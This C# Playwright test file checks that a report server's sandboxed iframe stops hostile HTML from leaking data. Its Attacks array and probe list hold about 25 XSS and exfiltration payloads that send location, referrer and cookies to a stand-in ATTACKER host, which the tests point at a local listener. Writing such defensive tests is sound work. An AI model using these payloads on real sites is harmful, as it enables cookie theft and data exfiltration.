using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Microsoft.Playwright;
using RankCollapse.Cli.Serving;
using RankCollapse.Reporting;
using RankCollapse.Reporting.Pages;
using RankCollapse.Sweeps.Plan;
using RankCollapse.Sweeps.Storage;
using RankCollapse.Tests;
using RankCollapse.Tests.Reporting;
using RankCollapse.Tests.Sweeps.Results;

namespace RankCollapse.BrowserTests;

/// <summary>Pages among served run files: ours work, and those of an attacker learn nothing and reach nobody.</summary>
public sealed class FilePageTests(Chromium chromium) : IClassFixture<Chromium>, IAsyncLifetime
{
    /// <summary>Each tries one way out; ATTACKER is an address that listens, and LEAK what a script would say.</summary>
    private static readonly string[] Attacks =
    [
        "<script>location = 'ATTACKER?' + LEAK</script>",
        "<script>top.location = 'ATTACKER?' + LEAK</script>",
        "<script>parent.location = 'ATTACKER?' + LEAK</script>",
        "<script>open('ATTACKER?' + LEAK)</script>",
        "<script>fetch('ATTACKER?' + LEAK); navigator.sendBeacon('ATTACKER', LEAK); new WebSocket('ws:' + 'ATTACKER'.slice(5))</script>",
        "<script>new Image().src = 'ATTACKER?' + LEAK</script>",
        "<script>fetch('/state').then(r => r.text()).then(t => { location = 'ATTACKER?' + t })</script>",
        "<script>document.write('<iframe src=\"ATTACKER?' + LEAK + '\"></iframe><img src=\"ATTACKER?' + LEAK + '\">')</script>",
        "<body onload=\"location = 'ATTACKER?' + LEAK\">",
        "<svg onload=\"location = 'ATTACKER?' + LEAK\"></svg><img src=x onerror=\"location = 'ATTACKER?' + LEAK\">",
        "<script src=\"ATTACKER\"></script><script type=module>import 'ATTACKER'</script>",
        "<meta name=referrer content=unsafe-url><meta http-equiv=refresh content=\"0; url=ATTACKER\">",
        "<meta http-equiv=refresh content=\"0; url=data:text/html,<script>location='ATTACKER'</script>\">",
        "<meta http-equiv=refresh content=\"0; url=javascript:location='ATTACKER'\">",
        "<meta name=referrer content=unsafe-url><img src=\"ATTACKER\"><link rel=stylesheet href=\"ATTACKER\"><style>@import 'ATTACKER'; "
            + "body { background: url(ATTACKER) } @font-face { font-family: x; src: url(ATTACKER) } p { font-family: x }</style><p>x</p>",
        "<meta name=referrer content=unsafe-url><iframe src=\"ATTACKER\"></iframe><iframe srcdoc=\"<script>top.location='ATTACKER'</script>\"></iframe>"
            + "<object data=\"ATTACKER\"></object><embed src=\"ATTACKER\">",
        "<base href=\"ATTACKER\"><link rel=prefetch href=\"ATTACKER\"><link rel=preload as=image href=\"ATTACKER\"><video src=\"ATTACKER\"></video>",
        "<meta name=referrer content=unsafe-url><a class=press href=\"ATTACKER\" ping=\"ATTACKER\">press</a>",
        "<meta name=referrer content=unsafe-url><a class=press target=_top href=\"ATTACKER\">press</a>",
        "<meta name=referrer content=unsafe-url><a class=press target=_blank rel=opener href=\"ATTACKER\">press</a>",
        "<a class=press download href=\"ATTACKER\">press</a>",
        "<a class=press href=\"javascript:location='ATTACKER?' + LEAK\">press</a>",
        "<form action=\"ATTACKER\"><input name=q value=1><button class=press>press</button></form>",
        "<form action=\"ATTACKER\" method=post target=_top><button class=press>press</button></form>",
        "<form action=\"javascript:location='ATTACKER?' + LEAK\"><button class=press>press</button></form>",
    ];

    private readonly TemporaryFolder _folder = new();
    private readonly Listener _attacker = new();
    private LiveServer _server = null!;
    private Trial _trial = null!;
    private string _report = "";

    public async ValueTask InitializeAsync()
    {
        SweepFolder sweep = SampleResults.WriteSweep(_folder.File("phase"), [1e-4], 1);
        _trial = sweep.ReadPlan().Trials[0];
        SampleResults.Finish(sweep, _trial);
        _report = Path.Combine(sweep.ResultPath(_trial.Id), "report.html");
        _server = await LiveServer.StartAsync(new LiveServerOptions { Folder = _folder.Root, Address = IPAddress.Any });
    }

    public async ValueTask DisposeAsync()
    {
        await _server.DisposeAsync();
        _attacker.Dispose();
        _folder.Dispose();
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task HostilePage_ReachesNobody(bool isWithOurScript)
    {
        const string Leak = "encodeURIComponent(location.href + document.referrer + document.cookie)";
        string end = isWithOurScript ? $"<script>{PageFrame.Script}</script>\n</body>\n</html>\n" : "";
        await File.WriteAllTextAsync(_report, "");
        await using OpenPage open = await OpenReportAsync();
        string address = open.Page.Url;
        foreach (string attack in Attacks)
        {
            string page = attack.Replace("ATTACKER", _attacker.Address, StringComparison.Ordinal).Replace("LEAK", Leak, StringComparison.Ordinal);
            await File.WriteAllTextAsync(_report, $"<!doctype html><p id=shown>shown</p>{page}{end}");
            await open.Page.GotoAsync(address);
            IFrameLocator frame = open.Page.FrameLocator("iframe");
            // A page that would refresh itself into another one becomes the browser's page that says that it may not.
            if (!isWithOurScript || !attack.Contains("refresh", StringComparison.Ordinal)) await frame.Locator("#shown").WaitForAsync();
            if (attack.Contains("class=press", StringComparison.Ordinal)) await frame.Locator(".press").ClickAsync();
            await Task.Delay(100);

            Assert.True(_attacker.Requests.IsEmpty && open.Context.Pages.Count == 1 && open.Page.Url == address,
                $"{attack}: {string.Join(' ', _attacker.Requests)} {string.Join(' ', open.Context.Pages.Select(p => p.Url))}");
        }
    }

    [Fact]
    public async Task ScriptThatRunsAllTheSame_LearnsNothingOfThePage()
    {
        await File.WriteAllTextAsync(_report, $"<!doctype html><p id=shown>shown</p><script>{PageFrame.Script}</script>\n</body>\n</html>\n");
        await using OpenPage open = await OpenReportAsync();
        string[] asked =
        [
            "location.href", "document.referrer", "parent.location.href", "top.document.title", "opener.location.href", "[...location.ancestorOrigins].join()",
            "localStorage.length", "sessionStorage.length", "document.cookie", "performance.getEntries().map(e => e.name).join()", "name", "document.baseURI",
            "fetch('/state').then(r => r.text())", "fetch('./').then(r => r.text())", "caches.keys()", "indexedDB.databases().then(d => d.length)",
            "navigator.serviceWorker.register('/live.js')", "new SharedWorker('/live.js')", "open('/')", "import('ATTACKER')", "eval('1')",
            "(location = 'ATTACKER?' + location.href, new Promise(r => setTimeout(r, 150)))",
            "(top.location = 'ATTACKER', 1)", "(parent.postMessage('state', '*'), 1)",
            "(document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = 1' })), document.title)",
        ];
        string token = _server.Address.Segments[1].Trim('/'), address = open.Page.Url;
        foreach (string question in asked)
        {
            string script = $"async () => {{ try {{ return String(await ({question.Replace("ATTACKER", _attacker.Address, StringComparison.Ordinal)})); }} "
                + "catch (e) { return 'refused: ' + e.message; } }";
            await open.Page.GotoAsync(address);
            await open.Page.FrameLocator("iframe").Locator("#shown").WaitForAsync();
            string answer;
            try
            {
                answer = await open.Page.Frames[1].EvaluateAsync<string>(script);
            }
            catch (PlaywrightException e)
            {
                // The page went: to a page that says that it may not.
                answer = e.Message;
            }
            Assert.DoesNotContain(token, answer, StringComparison.Ordinal);
            Assert.DoesNotContain("\"views\"", answer, StringComparison.Ordinal);
            Assert.True(_attacker.Requests.IsEmpty && open.Context.Pages.Count == 1 && open.Page.Url == address,
                $"{question}: {answer} {string.Join(' ', _attacker.Requests)}");
        }
    }

    [Fact]
    public async Task PageAskedForWithoutItsFrame_GoesNowhereByItself()
    {
        await File.WriteAllTextAsync(_report,
            $"<!doctype html><meta http-equiv=refresh content=\"0; url={_attacker.Address}\"><p id=shown>shown</p>"
            + $"<script>{PageFrame.Script}</script>\n</body>\n</html>\n");
        await using OpenPage open = await OpenReportAsync();
        // Without the names of a network a browser says what it wants an answer for.
        string address = open.Page.Url.Replace("127.0.0.1", "localhost", StringComparison.Ordinal) + "&framed=1";
        await open.Page.GotoAsync(address);
        await open.Page.Locator("#shown").WaitForAsync();
        await Task.Delay(150);
        Assert.Equal(address, open.Page.Url);
        Assert.Empty(_attacker.Requests);
    }

    [Fact]
    public async Task OurReport_DrawsItsCharts_AndOneOfAnotherVersionShowsItsPictures()
    {
        HtmlReport.Write(SampleRuns.Collapsed(), _report);
        string report = await File.ReadAllTextAsync(_report);
        await using (OpenPage open = await OpenReportAsync())
        {
            IFrameLocator frame = open.Page.FrameLocator("iframe");
            await frame.Locator("[data-chart] .panel > svg path").First.WaitForAsync();
            await frame.Locator("#theme").ClickAsync();
            Assert.Equal("dark", await frame.Locator("html").GetAttributeAsync("data-theme"));
            Assert.Empty(open.Errors);
        }
        await File.WriteAllTextAsync(_report, report.Replace("(() => {", "( () => {", StringComparison.Ordinal));
        await using (OpenPage open = await OpenReportAsync())
        {
            IFrameLocator frame = open.Page.FrameLocator("iframe");
            await frame.Locator("noscript svg").First.WaitForAsync();
            Assert.Equal(0, await frame.Locator("[data-chart] .panel").CountAsync());
        }
    }

    /// <summary>As a user comes to it: by the link of the live page.</summary>
    private async Task<OpenPage> OpenReportAsync()
    {
        string page = $"http://127.0.0.1:{_server.Address.Port}{_server.Address.AbsolutePath}#trial={_trial.Id}";
        OpenPage open = await chromium.OpenAsync(page);
        await open.Page.Locator("#files a").Filter(new() { HasText = "report.html" }).ClickAsync();
        await open.Page.Locator("iframe").WaitForAsync();
        Assert.DoesNotContain(_server.Address.Segments[1].Trim('/'), open.Page.Url, StringComparison.Ordinal);
        return open;
    }

    /// <summary>Writes down what it is asked; a browser may connect beforehand, without a word.</summary>
    private sealed class Listener : IDisposable
    {
        private readonly TcpListener _listener = new(IPAddress.Loopback, 0);

        public Listener()
        {
            _listener.Start();
            _ = AcceptAsync();
        }

        public string Address => $"http://127.0.0.1:{((IPEndPoint)_listener.LocalEndpoint).Port}/";

        public ConcurrentQueue<string> Requests { get; } = [];

        public void Dispose() => _listener.Dispose();

        private async Task AcceptAsync()
        {
            try
            {
                while (true) _ = AnswerAsync(await _listener.AcceptTcpClientAsync());
            }
            catch (Exception e) when (e is SocketException or ObjectDisposedException)
            {
                // The test has ended.
            }
        }

        private async Task AnswerAsync(TcpClient client)
        {
            using (client)
            {
                var buffer = new byte[1 << 12];
                try
                {
                    int length = await client.GetStream().ReadAsync(buffer);
                    if (length == 0) return;
                    Requests.Enqueue(Encoding.ASCII.GetString(buffer, 0, length));
                    await client.GetStream().WriteAsync(Encoding.ASCII.GetBytes("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"));
                }
                catch (Exception e) when (e is SocketException or ObjectDisposedException or IOException)
                {
                    // It has gone.
                }
            }
        }
    }
}
